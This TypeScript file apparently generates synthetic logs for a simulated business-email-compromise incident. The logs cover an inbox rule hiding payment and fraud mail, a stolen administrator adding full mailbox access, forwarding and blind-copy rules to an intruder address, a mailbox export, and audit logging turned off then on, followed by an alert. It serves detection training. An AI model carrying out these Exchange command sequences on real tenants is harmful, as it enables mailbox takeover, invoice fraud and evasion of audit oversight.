import { intruder, intruderNames } from '../company/addresses.ts';
import { type Account, person } from '../company/people.ts';
import { accountEntity, ipEntity, mailboxEntity, raiseAlert } from '../events/alert.ts';
import { exchangeCommand, mailboxAction } from '../events/office.ts';
import type { Scene } from '../events/scene.ts';
import { signIn, userAgents } from '../events/signin.ts';
import { at, minute, second } from '../period.ts';
import { financeChief, stolenAdmin } from './cast.ts';

/**
 * Monday 24 November: a rule in Henrik Falk's mailbox hides what might warn him. At night the stolen
 * administrator's account opens two more mailboxes and forwards a third. Gives the alert.
 */
export function takeMailboxes(scene: Scene): string[] {
  const rule = hideMail(scene);
  administer(scene);
  return [rule];
}

const words = 'invoice;payment;bank;iban;phish;hacked;fraud';

function hideMail(scene: Scene): string {
  const time = at('2025-11-24T08:29:03');
  exchangeCommand(scene, {
    at: time,
    name: 'New-InboxRule',
    parameters: [
      ['AlwaysDeleteOutlookRulesBlob', 'False'],
      ['Force', 'False'],
      ['Name', '.'],
      ['SubjectOrBodyContainsWords', words],
      ['MoveToFolder', 'RSS Subscriptions'],
      ['MarkAsRead', 'True'],
      ['StopProcessingRules', 'True'],
    ],
    by: financeChief,
    ip: intruder.session.ip,
    object: `${financeChief.upn}\\.`,
  });
  for (let count = 0; count < 64; count++) {
    mailboxAction(scene, {
      at: time + 2 * minute + count * scene.random.int(9, 14) * second,
      operation: 'MailItemsAccessed',
      by: financeChief,
      owner: financeChief,
      ip: intruder.session.ip,
      client: 'Client=REST;Client=RESTSystem;;',
      folder: scene.random.pick(['Inbox', 'Sent Items', 'Archive\\Bank', 'Archive\\Board']),
      items: scene.random.int(4, 40),
    });
  }
  return raiseAlert(scene, {
    from: time,
    to: time,
    name: 'Suspicious inbox manipulation rule',
    severity: 'High',
    description: 'A rule with a name of one character moves mail about payments out of sight.',
    provider: 'MCAS',
    tactics: 'DefenseEvasion',
    techniques: ['T1564.008'],
    entities: [
      accountEntity(financeChief),
      mailboxEntity(financeChief),
      ipEntity(intruder.session),
    ],
    compromised: financeChief.upn,
  });
}

type Command = readonly [
  name: string,
  on: Account,
  parameters: readonly (readonly [string, string])[],
];

function adminCommands(): Command[] {
  const chief = person('avinge');
  const counsel = person('psjoo');
  const access = (owner: Account): Command => [
    'Add-MailboxPermission',
    owner,
    [
      ['Identity', owner.upn],
      ['User', stolenAdmin.upn],
      ['AccessRights', 'FullAccess'],
      ['InheritanceType', 'All'],
      ['AutoMapping', 'False'],
    ],
  ];
  return [
    ['Set-AdminAuditLogConfig', stolenAdmin, [['UnifiedAuditLogIngestionEnabled', 'False']]],
    access(chief),
    access(counsel),
    [
      'Set-Mailbox',
      financeChief,
      [
        ['Identity', financeChief.upn],
        ['ForwardingSmtpAddress', `smtp:${intruderNames.forward}`],
        ['DeliverToMailboxAndForward', 'True'],
      ],
    ],
    [
      'New-TransportRule',
      stolenAdmin,
      [
        ['Name', 'Disclaimer 2'],
        ['SentTo', financeChief.upn],
        ['BlindCopyTo', intruderNames.forward],
        ['Priority', '0'],
      ],
    ],
    [
      'New-MailboxExportRequest',
      chief,
      [
        ['Mailbox', chief.upn],
        ['FilePath', '\\\\nvk-fs01\\c$\\ProgramData\\Intel\\av.pst'],
      ],
    ],
    ['Set-AdminAuditLogConfig', stolenAdmin, [['UnifiedAuditLogIngestionEnabled', 'True']]],
  ];
}

function administer(scene: Scene): void {
  let time = at('2025-11-24T22:05:19');
  signIn(scene, {
    at: time,
    account: stolenAdmin,
    place: intruder.session,
    app: 'Microsoft Exchange REST API Based Powershell',
    userAgent: userAgents.linux,
    client: 'Mobile Apps and Desktop clients',
    mfa: 'not required',
  });
  for (const [name, on, parameters] of adminCommands()) {
    time += scene.random.int(20, 110) * second;
    exchangeCommand(scene, {
      at: time,
      name,
      parameters,
      by: stolenAdmin,
      ip: intruder.session.ip,
      object: on.upn,
    });
  }
  for (let count = 0; count < 30; count++) {
    mailboxAction(scene, {
      at: time + 6 * minute + count * scene.random.int(7, 12) * second,
      operation: 'MailItemsAccessed',
      by: stolenAdmin,
      owner: person('avinge'),
      ip: intruder.session.ip,
      client: 'Client=REST;Client=RESTSystem;;',
      folder: 'Inbox',
      items: scene.random.int(5, 60),
    });
  }
}
